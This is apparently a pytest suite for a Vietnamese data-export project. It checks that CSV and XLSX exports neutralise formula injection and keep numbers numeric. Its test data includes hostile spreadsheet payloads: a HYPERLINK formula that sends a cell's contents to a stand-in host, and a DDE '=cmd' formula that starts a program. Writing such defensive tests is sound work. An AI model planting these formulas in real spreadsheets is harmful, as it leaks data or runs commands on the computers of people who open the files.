"""Formula neutralisation: every text cell an export writes is inert, numbers stay numbers, and
no module writes a spreadsheet except through core.spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from ansinh.core.spreadsheet import csv_writer, neutralise, restore
from ansinh.core.tables import Column, Table, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://x.example/?"&A2,"Bấm")', "+84912345678", "-", "-5", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "'=already", "''", "'"]


def test_hostile_texts_get_an_apostrophe_and_come_back() -> None:
    assert neutralise('=HYPERLINK("http://x","a")') == '\'=HYPERLINK("http://x","a")'
    assert neutralise("+84912345678") == "'+84912345678"
    assert neutralise("-") == "'-"
    assert neutralise("@x") == "'@x"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("Hồ Thị Hoa") == "Hồ Thị Hoa"
    assert neutralise("'Hoa") == "'Hoa"  # an apostrophe before a harmless letter stays as is
    for text in HOSTILE:
        assert restore(neutralise(text)) == text
        assert neutralise(text)[0] not in "=+-@\t\r"


@given(st.text(max_size=30))
def test_restore_undoes_neutralise_for_every_text(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not written or written[0] not in "=+-@\t\r"


def test_report_xlsx_has_no_formula_and_keeps_numbers() -> None:
    table = Table("Báo cáo", [Column("Tên"), Column("Tiền", "money")],
                  rows=[[HOSTILE[0], -150_000], ["=1+1", 0]])
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    names = [row[0].value for row in sheet.iter_rows(min_row=4)]
    assert names == ["'" + HOSTILE[0], "'=1+1"]
    money = sheet.cell(row=4, column=2)
    assert (money.value, money.data_type) == (-150_000, "n")


def test_a_control_character_does_not_break_the_download() -> None:
    table = Table("Báo cáo", [Column("Tên")], rows=[["Hồ\x01Hoa"], ["=\x02"]])
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table))).active
    assert [row[0].value for row in sheet.iter_rows(min_row=4)] == ["Hồ\ufffdHoa", "'=\ufffd"]


def test_csv_writer_neutralises_every_text_cell() -> None:
    buffer = io.StringIO()
    csv_writer(buffer).writerow([HOSTILE[0], -5, "-5", "Nguyễn \"Tí\" Văn"])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + HOSTILE[0], "-5", "'-5", "Nguyễn \"Tí\" Văn"]


def test_collection_lists_have_no_formula() -> None:
    from ansinh.collection.exporting import COLLECTION_HEADERS, write_xlsx

    row = [1, "=cmd|' /C calc'!A0", None, "Nam", "046190001111", "@ Thôn A", -1, "+", 1,
           -200_000, 0, "-12", None, None, "", "", "", ""]
    sheet = load_workbook(io.BytesIO(write_xlsx("Thu", COLLECTION_HEADERS, [row]))).active
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["B2"].value == "'=cmd|' /C calc'!A0"
    assert (sheet["J2"].value, sheet["J2"].data_type) == (-200_000, "n")


WRITERS = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.create_sheet\(")


def test_no_module_writes_a_spreadsheet_around_the_neutralisation() -> None:
    """Every writer gets its workbook, sheets and CSV writers from core.spreadsheet, whose
    sheet and writer neutralise every cell; a new export that opens its own would not."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root)) for path in root.rglob("*.py")
        if "tests" not in path.parts and path.name != "spreadsheet.py"
        and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
